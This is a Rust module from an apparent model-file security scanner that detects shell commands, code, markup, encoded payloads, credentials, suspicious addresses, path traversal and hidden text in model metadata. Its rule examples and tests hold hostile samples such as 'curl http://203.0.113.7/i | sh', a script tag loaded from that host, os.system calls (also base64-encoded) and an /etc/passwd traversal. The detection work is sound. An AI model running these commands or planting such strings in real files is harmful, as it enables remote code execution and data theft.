//! Free text in a model's metadata that is more than text: commands, code, markup, encoded payloads, addresses, keys.
//!
//! [`inspect_metadata`] is the one place that judges such strings, whatever format carries them. A pattern counts only in
//! the position in which it would act (a call, a command at the start of a line, an attribute inside a tag), so that prose
//! which mentions a word stays silent; in Markdown documents, where shown commands are normal, everything grades one step
//! milder. Cost: one Aho-Corasick pass over the text with a bounded look at each hit, plus one pass for encoded runs.

mod address;
mod encoded;
mod patterns;
mod secret;
mod signs;
mod terminal;

use crate::Scan;
use bartizan_core::{Confidence, Finding, Location, Rule, Severity, atlas, cwe, owasp_llm, owasp_ml, rule};
use std::borrow::Cow;

pub use address::{is_sensitive_path, path_escape};

/// Judges one metadata string of any format, found at `place` inside the current input.
pub fn inspect_metadata(text: &str, place: &Location, scan: &mut Scan<'_>) {
    if matters(text, scan) {
        inspect_mattering(text, place, scan);
    }
}

/// Whether [`inspect_metadata`] looks into `text` at all: callers that make the place of each string ask before they do.
pub(crate) fn matters(text: &str, scan: &Scan<'_>) -> bool {
    let is_signed = || if wants_signs(scan) { signs::any(text) } else { signs::may_hide(text) };
    text.len() > SHORT_BYTES || is_signed() || encoded::any(text) || secret::any(text)
}

/// Whether the scan reports anything of what [`signs`] are looked for.
fn wants_signs(scan: &Scan<'_>) -> bool {
    let rules = [&METADATA_COMMAND, &METADATA_CODE, &METADATA_MARKUP, &METADATA_URL, &METADATA_PATH];
    rules.into_iter().any(|rule| !scan.leaves_out(rule))
}

/// As [`inspect_metadata`], for a text that [`matters`].
pub(crate) fn inspect_mattering(text: &str, place: &Location, scan: &mut Scan<'_>) {
    inspect(text, (is_document(text), false), place, None, scan);
}

/// As [`inspect_metadata`], or with `document` as [`inspect_document`], for bytes of the input itself that begin at `offset`: what is found
/// stands where it is.
pub(crate) fn inspect_bytes(bytes: &[u8], offset: usize, document: bool, scan: &mut Scan<'_>) {
    let text = String::from_utf8_lossy(bytes);
    if text.len() > SHORT_BYTES || may_matter(&text) {
        // What is no UTF-8 stands longer in the text than in the input.
        let base = matches!(text, Cow::Borrowed(_)).then_some(offset);
        let place = Location { offset: Some(offset as u64), ..Location::default() };
        let kind = if document { (true, true) } else { (is_document(&text), false) };
        inspect(&text, kind, &place, base, scan);
    }
}

/// As [`inspect_metadata`], for text in which shown commands and code are normal: documents and records of datasets.
pub fn inspect_document(text: &str, place: &Location, scan: &mut Scan<'_>) {
    if text.len() > SHORT_BYTES || may_matter(text) {
        inspect(text, (true, true), place, None, scan);
    }
}

/// Whether judging `text` could find anything: what lets callers leave out what only a finding needs.
pub(crate) fn may_matter(text: &str) -> bool {
    signs::any(text) || encoded::any(text) || secret::any(text)
}

/// `base` is where the text begins in the input, when its bytes are those of the input.
fn inspect(
    text: &str,
    (document, record): (bool, bool),
    place: &Location,
    base: Option<usize>,
    scan: &mut Scan<'_>,
) {
    let inspected = text.get(..text.floor_char_boundary(TEXT_BYTES)).unwrap_or(text);
    if inspected.len() < text.len() {
        scan.gap(
            place.offset,
            format!("metadata text longer than {TEXT_BYTES} bytes was read only to there"),
        );
    }
    let signed = wants_signs(scan);
    let mut passage = Passage { text: inspected, document, record, signed, hidden: None, marks: Vec::new() };
    passage.judge();
    let mut payloads = Vec::new();
    encoded::judge(&mut passage, &mut payloads, encoded::DEPTH);
    for mark in passage.marks {
        let offset = base.map(|base| base.saturating_add(mark.start) as u64).or(place.offset);
        let finding = Finding::new(mark.rule, mark.message)
            .located(&Location { offset, ..place.clone() })
            .severity(mark.severity)
            .confidence(mark.confidence)
            .evidence(mark.evidence);
        scan.report(finding);
    }
    for (name, bytes) in payloads {
        scan.member(&name, &bytes);
    }
}

/// What dangerous command a string holds, for formats that judge strings of a program, where milder hits are normal.
pub(crate) fn dangerous_command(text: &str) -> Option<String> {
    let mut passage =
        Passage { text, document: false, record: false, signed: true, hidden: None, marks: Vec::new() };
    patterns::judge(&mut passage, signs::of(text).as_deref());
    let mut marks = passage.marks.into_iter();
    let mark = marks.find(|mark| mark.rule.id == METADATA_COMMAND.id && mark.severity >= Severity::High)?;
    Some(mark.message.trim_start_matches("metadata holds ").to_owned())
}

/// Every rule [`inspect_metadata`] may report.
pub static RULES: &[&Rule] = &[
    &METADATA_COMMAND,
    &METADATA_CODE,
    &METADATA_MARKUP,
    &METADATA_PAYLOAD,
    &METADATA_CREDENTIAL,
    &METADATA_URL,
    &METADATA_PATH,
    &METADATA_HIDDEN_TEXT,
];

/// Longest text looked at, in bytes: larger than any model card, small enough to stay quick.
const TEXT_BYTES: usize = 16 << 20;
/// Texts up to this length, in bytes, are first searched for anything to judge at all, in one pass. Longer ones mostly
/// hold something.
const SHORT_BYTES: usize = 64 << 10;
/// From this length, in bytes, a text may be a Markdown document rather than a value.
const DOCUMENT_BYTES: usize = 300;
/// How much around a hit is shown, in bytes before and after.
const SHOWN: (usize, usize) = (40, 160);

/// A text under judgement and what was seen in it, the worst of each rule.
struct Passage<'t> {
    text: &'t str,
    /// Whether it is a Markdown document, in which shown commands and code are normal.
    document: bool,
    /// Whether it is a document or a record of a dataset by itself, rather than what a model says of itself.
    record: bool,
    /// Whether commands, code, markup, addresses and paths are looked for.
    signed: bool,
    /// How the text was hidden, for example `base64`, when it was decoded from another one.
    hidden: Option<String>,
    marks: Vec<Mark>,
}

/// One thing seen.
struct Mark {
    rule: &'static Rule,
    /// Where it stands in the outermost text.
    start: usize,
    severity: Severity,
    confidence: Confidence,
    message: String,
    evidence: String,
}

impl Passage<'_> {
    fn judge(&mut self) {
        if self.signed {
            let signs = signs::of(self.text);
            patterns::judge(self, signs.as_deref());
            address::judge(self, signs.as_deref(), patterns::texts().count());
        }
        secret::judge(self);
        self.hidden_text();
    }

    /// Notes that what stands at `start` is `what`; keeps the worst of each rule.
    fn mark(&mut self, rule: &'static Rule, severity: Severity, start: usize, what: &str) {
        let severity = match (self.document, self.hidden.is_some()) {
            (true, false) => step(severity, false),
            (_, true) => step(severity, true),
            (false, false) => severity,
        };
        let message = match &self.hidden {
            Some(how) => format!("metadata hides {what} behind {how}"),
            None => format!("metadata holds {what}"),
        };
        let from = self.text.floor_char_boundary(start.saturating_sub(SHOWN.0));
        let to = self.text.floor_char_boundary(start.saturating_add(SHOWN.1));
        let evidence = self.text.get(from..to).unwrap_or_default().to_owned();
        let confidence = if self.document { Confidence::Low } else { Confidence::Medium };
        let mark = Mark { rule, start, severity, confidence, message, evidence };
        match self.marks.iter_mut().find(|known| known.rule.id == rule.id) {
            Some(known) if known.severity < mark.severity => *known = mark,
            Some(_) => {}
            None => self.marks.push(mark),
        }
    }

    /// Terminal escapes that hide something, and the Unicode tag characters that carry text no one sees.
    fn hidden_text(&mut self) {
        if let Some((at, what)) = terminal::hiding(self.text) {
            self.mark(&METADATA_HIDDEN_TEXT, Severity::Medium, at, what);
        }
        let tags = |c: char| ('\u{E0020}'..='\u{E007E}').contains(&c);
        // All of them share their first two bytes in UTF-8.
        if memchr::memmem::find(self.text.as_bytes(), b"\xf3\xa0").is_none() {
            return;
        }
        // Flags of nations without a country code are the one honest use: six tags at most after a black flag.
        let most = self.text.split(|c| !tags(c)).map(|run| run.chars().count()).max().unwrap_or(0);
        if most > 6
            && let Some(at) = self.text.find(tags)
        {
            self.mark(
                &METADATA_HIDDEN_TEXT,
                Severity::Medium,
                at,
                "text written in invisible tag characters",
            );
        }
    }
}

/// One step worse, never past high; or one step milder, never below low.
fn step(severity: Severity, worse: bool) -> Severity {
    match (severity, worse) {
        (Severity::Low, true) | (Severity::High, false) => Severity::Medium,
        (Severity::Medium, true) | (Severity::Critical, false) => Severity::High,
        (Severity::Medium, false) => Severity::Low,
        (kept, _) => kept,
    }
}

/// Whether a text is a Markdown document such as a model card.
fn is_document(text: &str) -> bool {
    text.len() >= DOCUMENT_BYTES && ["```", "](http", "\n## ", "\n# "].iter().any(|mark| text.contains(mark))
}

rule! {
    /// ## What it finds
    /// A shell command in the metadata of a model: a download piped into a shell, a reverse shell, an encoded PowerShell
    /// command, a recursive delete.
    /// ## Why it matters
    /// Metadata describes weights. A command there waits for a tool that hands metadata to a shell, a template or an
    /// agent, or marks the file as the carrier of an attack whose trigger lies elsewhere.
    /// ## Example
    /// `"setup": "curl http://203.0.113.7/i | sh"` in the header of a safetensors file.
    /// ## How to fix
    /// Ask the publisher what the string is for; strip the metadata before the model is used.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/78.html>
    pub const METADATA_COMMAND: Rule = Rule {
        id: "model/metadata-command",
        title: "a shell command in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the metadata, and find out who put a command there before the model is used.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(78), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// Source code that runs commands, imports modules or evaluates text, in the metadata of a model; also attribute
    /// chains that escape template sandboxes (`__globals__`, `__subclasses__`).
    /// ## Why it matters
    /// Loaders and tools have evaluated metadata before (Keras, NeMo, GGUF chat templates). Weights need none of it.
    /// ## Example
    /// `"init": "__import__('os').system('id')"`.
    /// ## How to fix
    /// Strip the metadata; never pass it to `eval`, a template engine or an agent.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/94.html>
    pub const METADATA_CODE: Rule = Rule {
        id: "model/metadata-code",
        title: "code in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the metadata, and never evaluate it; find out who put code there.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(94), cwe(95), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// Script elements, event-handler attributes, `javascript:` addresses or XML entity declarations in metadata.
    /// ## Why it matters
    /// Model hubs, experiment trackers and dashboards show metadata in a browser; markup that is not escaped runs there
    /// with the viewer's session.
    /// ## Example
    /// `"author": "<script src=//203.0.113.7/x.js></script>"`.
    /// ## How to fix
    /// Strip the metadata; escape it wherever it is shown.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/79.html>
    pub const METADATA_MARKUP: Rule = Rule {
        id: "model/metadata-active-markup",
        title: "active markup in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the markup, and escape metadata wherever it is shown.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(79), owasp_llm("LLM05")],
    };

    /// ## What it finds
    /// Base64 or hexadecimal text in metadata that decodes to a pickle, an executable, an archive, or to text that would
    /// itself be a finding.
    /// ## Why it matters
    /// Encoding a payload hides it from a reader and from scanners that search for words.
    /// ## Example
    /// `"note": "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU…"`: a pickle that calls `posix.system`.
    /// ## How to fix
    /// Strip the value; never decode and load it.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub const METADATA_PAYLOAD: Rule = Rule {
        id: "model/metadata-encoded-payload",
        title: "an encoded payload in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the encoded value; do not decode and load it.",
        taxonomies: &[atlas("AML.T0018.002"), cwe(506), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// A credential of a well-known format (cloud key, forge token, model hub token, private key) in metadata.
    /// ## Why it matters
    /// Everyone who downloads the model holds the key.
    /// ## Example
    /// `"wandb_env": "HF_TOKEN=hf_…"`.
    /// ## How to fix
    /// Revoke the credential, then publish the file without it.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/798.html>
    pub const METADATA_CREDENTIAL: Rule = Rule {
        id: "model/metadata-credential",
        title: "a credential in its metadata",
        severity: Severity::Medium,
        remedy: "Revoke the credential, then publish the file without it.",
        taxonomies: &[cwe(798), cwe(312), owasp_llm("LLM02")],
    };

    /// ## What it finds
    /// Addresses in metadata that lead to executables, tunnels, request catchers, link shorteners or bare IP addresses,
    /// and values that are nothing but the address of a host no model is usually published on.
    /// ## Why it matters
    /// A value that is an address is meant to be fetched by something; such hosts are where payloads are staged and stolen
    /// data is sent.
    /// ## Example
    /// `"callback_url": "https://3f2a.ngrok.io/hook"`.
    /// ## How to fix
    /// Check what reads the value; remove addresses that are not documentation.
    /// ## References
    /// - <https://atlas.mitre.org/techniques/AML.T0025>
    pub const METADATA_URL: Rule = Rule {
        id: "model/metadata-url",
        title: "a suspicious address in its metadata",
        severity: Severity::Low,
        remedy: "Check what reads this address, and remove it unless it is documentation.",
        taxonomies: &[atlas("AML.T0025"), cwe(829), owasp_llm("LLM03")],
    };

    /// ## What it finds
    /// Paths in metadata that climb out of a folder (`../../`) or name files that hold secrets.
    /// ## Why it matters
    /// A tool that opens or writes what metadata names follows the path out of the model's folder.
    /// ## Example
    /// A GGUF key called `../../../etc/passwd`.
    /// ## How to fix
    /// Strip the value; resolve paths from metadata only inside the model's folder.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/22.html>
    pub const METADATA_PATH: Rule = Rule {
        id: "model/metadata-path",
        title: "a path that leaves the model's folder in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the path, and resolve paths from metadata only inside the model's folder.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(22), owasp_llm("LLM03")],
    };

    /// ## What it finds
    /// Terminal escapes that hide something (concealed text, text that is painted over, a cleared screen, the title of the window, the
    /// clipboard), or text in invisible Unicode tag characters, in metadata. Colours are none.
    /// ## Why it matters
    /// Escapes rewrite what a terminal shows of the file; invisible text is read by language models and by nobody else.
    /// ## Example
    /// A description that ends in `ESC[2J` and a forged "no issues found".
    /// ## How to fix
    /// Strip the characters; show metadata escaped.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/150.html>
    pub const METADATA_HIDDEN_TEXT: Rule = Rule {
        id: "model/metadata-hidden-text",
        title: "hidden or terminal-steering text in its metadata",
        severity: Severity::Medium,
        remedy: "Strip the control or tag characters.",
        taxonomies: &[atlas("AML.T0051"), cwe(150), owasp_llm("LLM01")],
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Input;
    use bartizan_core::{Limits, MonotonicClock};
    use proptest::prelude::*;

    /// What a text gives, as `rule severity` lines.
    pub(super) fn seen(text: &str) -> Vec<(&'static str, Severity)> {
        let limits = Limits::default();
        let clock = MonotonicClock::start();
        let mut scan = Scan::new(&limits, &clock);
        inspect_metadata(text, &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| (finding.rule.id, finding.severity)).collect()
    }

    #[test]
    fn what_is_found_in_the_bytes_of_a_file_stands_where_it_is() {
        let limits = Limits::default();
        let clock = MonotonicClock::start();
        let place = |bytes: &[u8]| {
            let mut scan = Scan::new(&limits, &clock);
            inspect_bytes(bytes, 100, true, &mut scan);
            scan.findings().iter().map(|finding| finding.location.offset).collect::<Vec<_>>()
        };
        assert_eq!(place(b"# A\n\nsee http://169.254.169.254/latest/meta-data/\n"), [Some(109)]);
        // Of what was decoded the place is that of the code.
        assert_eq!(place(b"a b X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk= c"), [Some(104)]);
        // Of what is no UTF-8 only the piece is known.
        assert_eq!(place(b"\xff\xff see http://169.254.169.254/latest/\n"), [Some(100)]);
    }

    #[test]
    fn a_download_piped_into_a_shell_is_high() {
        assert_eq!(
            seen("run curl -s http://203.0.113.7/i | sudo bash"),
            [(METADATA_COMMAND.id, Severity::High), (METADATA_URL.id, Severity::Medium)]
        );
    }

    #[test]
    fn prose_that_mentions_words_is_silent() {
        let prose = "Execution metrics from evaluation pipeline. No command invocation. We import os data, execute \
                     model.eval() and system tests; see https://huggingface.co/org/model and https://arxiv.org/abs/1706.03762. \
                     Download the script tag list (javascript) for the curl dataset.";
        assert_eq!(seen(prose), []);
    }

    #[test]
    fn a_model_card_with_a_shell_example_stays_below_high() {
        let card = format!(
            "# Model\n\n{}\n```bash\ncurl -fsSL https://ollama.com/install.sh | sh\n```\n",
            "text ".repeat(80)
        );
        assert!(seen(&card).iter().all(|(_, severity)| *severity < Severity::High));
    }

    #[test]
    fn code_that_runs_a_command_is_high() {
        assert_eq!(seen("import os; os.system('id')"), [(METADATA_CODE.id, Severity::High)]);
    }

    #[test]
    fn switching_a_network_to_evaluation_is_not_code() {
        assert_eq!(seen("model.eval() then torch.compile(model)"), []);
    }

    #[test]
    fn encoded_code_is_decoded_and_high() {
        // __import__('os').system('id')
        assert!(
            seen("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=").contains(&(METADATA_CODE.id, Severity::High))
        );
    }

    #[test]
    fn a_digest_is_not_an_encoded_payload() {
        assert_eq!(seen("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"), []);
    }

    #[test]
    fn a_script_element_is_active_markup_but_a_comparison_is_not() {
        assert_eq!(seen("<script>alert(1)</script>"), [(METADATA_MARKUP.id, Severity::Medium)]);
        assert_eq!(seen("a <b and onload = 3 > 2"), []);
    }

    #[test]
    fn a_terminal_escape_is_hidden_text_but_a_flag_is_not() {
        assert_eq!(seen("ok\u{1b}[2J"), [(METADATA_HIDDEN_TEXT.id, Severity::Medium)]);
        assert_eq!(seen("ok\u{9b}2J"), [(METADATA_HIDDEN_TEXT.id, Severity::Medium)]);
        assert_eq!(seen("\u{1b}[31mred\u{1b}[0m"), []);
        assert_eq!(seen("\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}"), []);
    }

    #[test]
    fn what_is_left_out_is_left_out_and_takes_nothing_else_with_it() {
        const LEFT_OUT: &[&str] =
            &[METADATA_COMMAND.id, METADATA_CODE.id, METADATA_MARKUP.id, METADATA_URL.id, METADATA_PATH.id];
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let found = |left_out, text: &str| {
            let outcome =
                crate::scan_without(left_out, &Input::new("a.yml", text.as_bytes()), &limits, &clock);
            outcome.findings.iter().map(|finding| finding.rule.id).collect::<Vec<_>>()
        };
        // Joined, so that no scanner of this repository takes the fixture for a real key.
        let token = format!("{}{}", "ghp_", "a8F3kd92LsQ0pZx7Vb6Nm1Wc4Ey5Ru2Ti9Oq");
        for (said, more) in [
            ("curl http://203.0.113.7/i | sh".to_owned(), vec![]),
            ("ok \\e[2J".replace("\\e", "\u{1b}"), vec![METADATA_HIDDEN_TEXT.id]),
            (format!("TOKEN={token} os.system('id')"), vec![METADATA_CREDENTIAL.id]),
        ] {
            let text = format!("run: {said}\n");
            let all = found(&[], &text);
            let kept: Vec<_> = all.iter().copied().filter(|id| !LEFT_OUT.contains(id)).collect();
            assert_eq!(found(LEFT_OUT, &text), kept, "{said}");
            assert!(more.iter().all(|id| kept.contains(id)), "{said}: {kept:?}");
        }
    }

    /// As [`seen`], for a record of a dataset.
    pub(super) fn seen_in_record(text: &str) -> Vec<(&'static str, Severity)> {
        let limits = Limits::default();
        let clock = MonotonicClock::start();
        let mut scan = Scan::new(&limits, &clock);
        inspect_document(text, &Location::default(), &mut scan);
        scan.findings().iter().map(|finding| (finding.rule.id, finding.severity)).collect()
    }

    proptest! {
        #[test]
        fn any_text_gives_a_result(text in "\\PC{0,400}") {
            seen(&text);
        }

        #[test]
        fn any_mix_of_indicators_gives_a_result(parts in proptest::collection::vec(
            prop_oneof![Just("curl "), Just("http://"), Just("é"), Just("<"), Just("eval("), Just("| sh"), Just("../"),
                Just("AKIA"), Just("\\x41"), Just("gASV"), Just("====="), Just("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")], 0..40)) {
            seen(&parts.concat());
        }
    }
}
